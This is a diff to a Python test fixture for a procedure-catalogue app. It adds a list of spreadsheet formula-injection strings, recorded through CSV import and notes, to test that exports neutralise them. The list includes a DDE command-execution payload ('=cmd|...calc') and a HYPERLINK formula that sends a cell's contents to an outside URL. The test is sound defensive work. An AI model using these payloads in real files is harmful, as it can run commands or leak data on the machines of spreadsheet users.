@@ -4,13 +4,16 @@ from __future__ import annotations
 
 import os
 import uuid
+from datetime import date
 from pathlib import Path
 
 import pytest
-from sqlalchemy import event
+from sqlalchemy import event, select
 from sqlalchemy.engine import make_url
 
-from app import create_app
+from app import create_app, csvfile
+from app.catalogue import services as catalogue
+from app.catalogue.models import Procedure
 from app.extensions import db
 from config import TestConfig
 
@@ -182,6 +185,60 @@ WORKED_EXAMPLE = {
         "D,excluded,2021-04-01,対面での審査が法令で必要\n"
     ),
 }
+
+
+# Texts a spreadsheet would run, or that look like the CSV writer's mark: names and notes
+# that staff may record (a note "-休止", a department "@home") or an attacker may try.
+HOSTILE_TEXTS = (
+    "=1+2",
+    '=HYPERLINK("https://example.com/?q="&A1,"詳細")',
+    "=cmd|' /C calc'!A0",
+    "+81-59-000-0000",
+    "-休止",
+    "-5",
+    "@home",
+    "@SUM(1+1)",
+    "\t=1+2",
+    "\t休止",
+    "\r=1+2",
+    "'=x",
+    "'",
+    "''",
+    "'-",
+    "一行目\r二行目",
+)
+
+
+def record_hostile_catalogue(folder: Path) -> None:
+    """Record HOSTILE_TEXTS as staff would (in an app context): procedure, department and
+    legal names through the CSV import of a file as the export writes it, notes through
+    record_status. Procedure H<i> holds text i; procedure -001 of department +D too."""
+    codes = [(f"H{i:02d}", f"H{i:02d}") for i in range(len(HOSTILE_TEXTS))] + [("-001", "+D")]
+    texts = [*HOSTILE_TEXTS, HOSTILE_TEXTS[0]]
+    folder.mkdir(parents=True, exist_ok=True)
+    csvfile.write(
+        folder / "procedures.csv",
+        [
+            ("code", "name_ja", "name_en", "department_code", "department_name", "priority",
+             "procedure_type", "legal_basis", "exclusion_reason"),
+            *((code, text, text, dept, text, i % 2, text, text, text)
+              for i, ((code, dept), text) in enumerate(zip(codes, texts, strict=True))),
+        ],
+        newline="\n",
+    )  # fmt: skip
+    csvfile.write(
+        folder / "volumes.csv",
+        [("code", "fiscal_year", "receipts", "online_receipts")]
+        + [(code, 2023, 100 + i, i) for i, (code, _) in enumerate(codes)],
+        newline="\n",
+    )
+    report = catalogue.import_catalogue(folder, recorded_by="test")
+    assert report.ok, [str(p) for p in report.problems]
+    for (code, _), text in zip(codes, texts, strict=True):
+        proc = db.session.scalar(select(Procedure).filter_by(code=code))
+        catalogue.record_status(proc, "excluded", date(2020, 4, 1), note=text, by="test")
+        catalogue.record_status(proc, "paper", date(2021, 4, 1), note=text, by="test")
+    db.session.commit()
 
 
 @pytest.fixture
